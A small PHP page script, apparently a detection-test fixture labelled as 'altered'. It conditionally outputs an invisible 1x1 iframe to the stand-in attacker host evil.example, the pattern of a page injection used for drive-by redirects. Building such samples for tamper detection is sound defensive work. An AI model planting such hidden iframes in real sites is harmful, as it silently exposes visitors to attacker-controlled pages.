<?php
// Altered: an invisible iframe to a domain on the block list.
require __DIR__ . '/common.php';
head('Page A');
echo shop_text();
if (tampered()) echo "<iframe src=\"http://evil.example/landing\" width=\"1\" height=\"1\" style=\"border:0\"></iframe>";
echo "</body></html>";
